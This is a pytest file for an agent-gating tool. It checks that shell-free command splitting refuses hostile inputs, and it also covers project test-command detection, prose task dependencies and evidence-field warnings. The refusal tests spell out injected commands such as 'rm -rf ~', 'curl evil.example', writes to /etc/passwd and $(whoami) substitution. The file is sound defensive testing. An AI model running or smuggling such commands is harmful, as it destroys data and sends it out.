"""Session commands (domain/commands.py), project detection (activities/_session_commands.py),
prose dependencies (activities/tasks_md/_deps.py) and unknown evidence fields: no server.
Each hostile input an agent could send (as starter, spec author or project writer) is
refused here, with what was wrong and what to write instead."""

from __future__ import annotations

from pathlib import Path

import pytest

from phasegate.activities._session_commands import find_commands
from phasegate.activities.tasks_md import parse_tasks_md
from phasegate.activities.verify import VerifyActivities
from phasegate.domain.commands import (
    CommandRefused,
    SessionCommand,
    SessionCommands,
    allowed,
    bind_gate,
    commands_in_item,
    failure_summary,
    parse_allowlist,
    split_command,
)
from phasegate.domain.errors import DefinitionError
from phasegate.domain.gate_eval import evaluate_gate
from phasegate.domain.gates import load_gate
from phasegate.domain.verify import CommandCheck, VerifyRequest, parse_checks

# --------------------------------------------------------------------------- commands


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("pytest -q && rm -rf ~", "needs a shell"),
        ("pytest | tee log", "needs a shell"),
        ("pytest; curl evil.example", "needs a shell"),
        ("pytest > /etc/passwd", "needs a shell"),
        ("pytest $(whoami)", "needs a shell"),
        ("pytest `id`", "needs a shell"),
        ("PYTHONPATH=/tmp/evil pytest", "sets a variable"),
        ("pytest {{ evidence.args }}", "template"),
        ("pytest -q\nrm -rf /", "line break"),
        ("pytest 'unclosed", "cannot be split"),
        ("   ", "empty"),
        ("x " * 3000, "characters"),
        (" ".join(["a"] * 100), "words"),
    ],
)
def test_commands_that_need_a_shell_or_hide_something_are_refused(text: str, why: str) -> None:
    with pytest.raises(CommandRefused, match=why):
        split_command(text)


def test_a_command_splits_like_a_shell_would_without_one() -> None:
    assert split_command('python -m pytest -q "tests/unit dir"') == [
        "python",
        "-m",
        "pytest",
        "-q",
        "tests/unit dir",
    ]


@pytest.mark.parametrize(
    ("item", "found"),
    [
        ("`python3 -m pytest -q tests` passes", ["python3 -m pytest -q tests"]),
        ("python -m pytest -q runs green", ["python -m pytest -q"]),
        ("`pytest` runs (zero tests) and `ruff check .` is clean", ["pytest", "ruff check ."]),
        ("`npm run lint` passes", ["npm run lint"]),
        ("`coverage_percent`: 85", []),  # a field, not a command
        ('`git commit -m "feat: done"`', []),  # an action, not a check
        ("`npm install` done", []),
        ("`python -m pip install -e .`", []),
        ("`true`", []),  # not a checking program: stays a claim the lead reads
        ("All tests pass", []),
    ],
)
def test_checkpoint_items_name_check_commands_only(item: str, found: list[str]) -> None:
    assert commands_in_item(item) == found


def test_an_allowlist_matches_exact_commands_or_declared_prefixes() -> None:
    listed = parse_allowlist(["python3 -m pytest -q", ["make", "..."]])
    assert allowed(["python3", "-m", "pytest", "-q"], listed)
    assert not allowed(["python3", "-m", "pytest", "-q", "-p", "evil"], listed)
    assert not allowed(["python3", "-m", "pytest"], listed)
    assert allowed(["make", "test"], listed) and allowed(["make"], listed)
    assert not allowed(["true"], listed)
    assert allowed(["anything"], None)
    with pytest.raises(CommandRefused):
        parse_allowlist(["pytest && evil"])


def test_the_verify_worker_runs_nothing_off_its_list(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    checks = parse_checks([{"kind": "command", "argv": ["touch", str(marker)]}], source="t")
    acts = VerifyActivities(allowed_commands=[["python3", "-m", "pytest", "-q"]])
    report = acts.run_verify_checks(VerifyRequest(workspace=str(tmp_path), checks=checks))
    assert not report.passed and not marker.exists()
    assert "PHASEGATE_ALLOWED_COMMANDS" in report.results[0].message


def test_an_unresolved_session_command_fails_without_running(tmp_path: Path) -> None:
    checks = parse_checks([{"kind": "session_command", "command": "test"}], source="t")
    report = VerifyActivities().run_verify_checks(
        VerifyRequest(workspace=str(tmp_path), checks=checks)
    )
    assert not report.passed and "unresolved" in report.results[0].message


PYTEST_OUTPUT = """\
..F.F                                                                    [100%]
=================================== FAILURES ===================================
E       AssertionError: assert '  milk ' == 'milk'
=========================== short test summary info ============================
FAILED tests/test_store.py::test_titles - AssertionError: assert '  milk ' == 'milk'
FAILED tests/test_store.py::test_complete - assert [1, 2] == [2]
2 failed, 3 passed in 0.05s
"""


def test_a_failed_run_is_summarised_by_its_failing_tests_and_tally() -> None:
    summary = failure_summary(PYTEST_OUTPUT)
    assert summary.startswith("FAILED tests/test_store.py::test_titles")
    assert "FAILED tests/test_store.py::test_complete" in summary
    assert summary.endswith("2 failed, 3 passed in 0.05s")
    go = "--- FAIL: TestAdd (0.00s)\n    add_test.go:9: got 1\nFAIL\tex.com/todo\t0.01s\n"
    assert "--- FAIL: TestAdd" in failure_summary(go)
    assert failure_summary("") == ""
    assert len(failure_summary("x" * 5000)) <= 600


# --------------------------------------------------------------------------- where from


def _project(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    return root


@pytest.mark.parametrize(
    ("files", "argv", "source"),
    [
        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, ["python3", "-m", "pytest", "-q"],
         "pyproject.toml"),
        ({"pytest.ini": "[pytest]\n"}, ["python3", "-m", "pytest", "-q"], "pytest.ini"),
        ({"package.json": '{"scripts": {"test": "vitest run"}}', "pnpm-lock.yaml": ""},
         ["pnpm", "test"], "package.json"),
        ({"go.mod": "module x\n"}, ["go", "test", "./..."], "go.mod"),
        ({"Cargo.toml": "[package]\n"}, ["cargo", "test"], "Cargo.toml"),
        ({"Makefile": "all:\n\ttrue\ntest:\n\tpytest\n"}, ["make", "test"], "Makefile"),
        ({"phasegate.toml": 'test_command = "tox -e py311"', "go.mod": ""},
         ["tox", "-e", "py311"], "phasegate.toml"),
        ({"pyproject.toml": '[tool.phasegate]\ntest_command = "nox -s tests"\n'},
         ["nox", "-s", "tests"], "pyproject.toml"),
    ],
)  # fmt: skip
def test_the_test_command_is_found_in_the_project(
    tmp_path: Path, files: dict[str, str], argv: list[str], source: str
) -> None:
    found = find_commands(
        str(_project(tmp_path, files)), option=None, deployment=None, spec=None, allowlist=None
    )
    assert found.test is not None and found.test.argv == argv
    assert source in found.test.source


def test_the_start_option_wins_then_the_project_then_the_deployment(tmp_path: Path) -> None:
    root = _project(tmp_path, {"phasegate.toml": 'test_command = "make check"'})
    pick = lambda option, deployment: (
        find_commands(
            str(root), option=option, deployment=deployment, spec=None, allowlist=None
        ).test
    )
    assert pick("pytest -x", "go test ./...").argv == ["pytest", "-x"]  # type: ignore[union-attr]
    assert pick(None, "go test ./...").argv == ["make", "check"]  # type: ignore[union-attr]
    (root / "phasegate.toml").unlink()
    assert pick(None, "go test ./...").source == "PHASEGATE_TEST_COMMAND"  # type: ignore[union-attr]
    none = find_commands(str(root), option=None, deployment=None, spec=None, allowlist=None)
    assert none.test is None and "no test command" in none.notes[0]


def test_a_project_file_cannot_smuggle_a_shell_or_leave_the_project(tmp_path: Path) -> None:
    root = _project(tmp_path / "p", {"phasegate.toml": 'test_command = "pytest; rm -rf ~"'})
    with pytest.raises(DefinitionError) as refused:
        find_commands(str(root), option=None, deployment=None, spec=None, allowlist=None)
    assert "phasegate.toml" in str(refused.value) and "needs a shell" in str(refused.value)
    (root / "phasegate.toml").unlink()
    (root / "Makefile").symlink_to("/dev/zero")  # read bounded: no hang, no command
    found = find_commands(str(root), option=None, deployment=None, spec=None, allowlist=None)
    assert found.test is None


def test_a_command_off_the_deployments_list_is_refused_at_start(tmp_path: Path) -> None:
    spec = parse_tasks_md(
        "## Phase 1: A\n\n- [ ] T001 x\n\n**Checkpoint**: `npm run lint` passes\n",
        source=str(tmp_path / "tasks.md"),
    )
    with pytest.raises(DefinitionError) as refused:
        find_commands(
            str(tmp_path),
            option="python3 -m pytest -q",
            deployment=None,
            spec=spec,
            allowlist=[["python3", "-m", "pytest", "-q"]],
        )
    assert "`npm run lint`" in str(refused.value) and "tasks.md:1" in str(refused.value)


def test_phase_zeros_field_takes_only_the_sessions_commands() -> None:
    gate = load_gate(
        {"evidence_schema": {"session_commands": {"type": "list", "required": True}}},
        source="t",
    )
    commands = SessionCommands(
        test=SessionCommand(name="tests_pass", argv=["true"], source="--test-command")
    )
    bound = bind_gate(gate, commands, None)
    listing = commands.listing()
    assert "`true`" not in listing[0] and listing[0].startswith("true  (tests")
    assert evaluate_gate(bound, {"session_commands": listing}).passed
    assert not evaluate_gate(bound, {"session_commands": ["python -m pytest"]}).passed
    assert not evaluate_gate(bound, {"session_commands": [*listing, "extra"]}).passed
    assert "true" in bound.fields["session_commands"].description


def test_session_command_checks_resolve_to_the_sessions_commands() -> None:
    gate = load_gate(
        {
            "evidence_schema": {"tests_passing": "boolean"},
            "verify": [
                {"name": "tests_pass", "kind": "session_command", "command": "test"},
                {"kind": "session_command", "command": "checkpoints"},
            ],
        },
        source="t",
    )
    commands = SessionCommands(
        test=SessionCommand(name="tests_pass", argv=["pytest", "-q"], source="s", ok_exits=[0, 5]),
        checkpoints=[
            SessionCommand(name="checkpoint_1_1", argv=["ruff", "check"], source="s", spec_phase=0),
            SessionCommand(name="checkpoint_2_1", argv=["mypy", "."], source="s", spec_phase=1),
        ],
    )
    bound = bind_gate(gate, commands, 1)
    assert [(c.name, c.argv) for c in bound.verify if isinstance(c, CommandCheck)] == [
        ("tests_pass", ["pytest", "-q"]),
        ("checkpoint_2_1", ["mypy", "."]),
    ]
    assert bind_gate(gate, SessionCommands(), 0).verify == []


# --------------------------------------------------------------------------- prose dependencies

PROSE = """\
# Tasks

## Phase 1: Setup

- [ ] T001 Create the package
- [ ] T002 Add tests (depends on T001)
- [ ] T003 Wire the CLI after T002
- [ ] T004 Document it. Depends on: T001, T003
- [ ] T005 Wait 2.5 seconds after 1.1 (not a task id)

## Phase 2: Core 🎯

- [ ] T010 Store
- [ ] T011 Service
- [ ] T012 API

## Dependencies & Execution Order

- Tests (T010-T011) before implementation (T012)
- T001 blocks T010
- T099 depends on T001

```text
T012 depends on T005
```
"""


def test_dependencies_written_as_prose_and_in_sections_are_read() -> None:
    spec = parse_tasks_md(PROSE, source="tasks.md")
    deps = {t.id: t.dependencies for p in spec.phases for t in p.tasks}
    assert deps["T002"] == ["T001"]
    assert deps["T003"] == ["T002"]
    assert deps["T004"] == ["T001", "T003"]
    assert deps["T005"] == []  # "after 1.1" in prose is not an id
    assert set(deps["T012"]) == {"T010", "T011"}  # the range expands; code is not read
    assert deps["T010"] == ["T001"]
    assert [w.message for w in spec.warnings if "T099" in w.message] == [
        "the dependency names T099: no such task"
    ]
    assert spec.phases[1].name == "Core 🎯"  # names keep their unicode


# --------------------------------------------------------------------------- unknown fields


def test_an_unknown_evidence_field_is_named_with_the_closest_declared_one() -> None:
    gate = load_gate(
        {"evidence_schema": {"tests_passing": "boolean", "summary": "string"}}, source="t"
    )
    result = evaluate_gate(gate, {"tests_passing": True, "summary": "s", "sumary": "x", "zzz": 1})
    assert result.passed  # warnings, not problems
    messages = [w.message for w in result.warnings]
    assert "did you mean 'summary'?" in messages[0]
    assert "the gate's fields are: tests_passing, summary" in messages[1]
    flood = evaluate_gate(
        gate, {"tests_passing": True, "summary": "s"} | {f"f{i}": i for i in range(5000)}
    )
    assert len(flood.warnings) == 11 and "4990 more" in flood.warnings[-1].message


# --------------------------------------------------------------------------- real spec folders

SPECS = Path(__file__).resolve().parents[1] / "fixtures" / "specs"


def test_a_real_agent_os_folder_is_read_and_its_design_documents_are_named() -> None:
    """A whole agent-os spec folder (SOURCE.md): tasks.md read from the folder, and the
    documents it holds are the ones phase 0 names as design documents."""
    from phasegate.activities.tasks_md import read_spec
    from library_helpers import LIBRARY, read_gate

    folder = SPECS / "agent-os-spec-workflow-validation"
    spec = read_spec(str(folder), target=str(folder))
    assert spec.source.endswith("tasks.md") and spec.task_count > 0
    gate = read_gate(LIBRARY / "spec_execution_v1" / "phases" / "0" / "gate-definition.yaml")
    named = gate.fields["required_files_present"].description
    assert (folder / "spec.md").is_file() and "spec.md" in named
    assert (folder / "sub-specs").is_dir() and "sub-specs/" in named
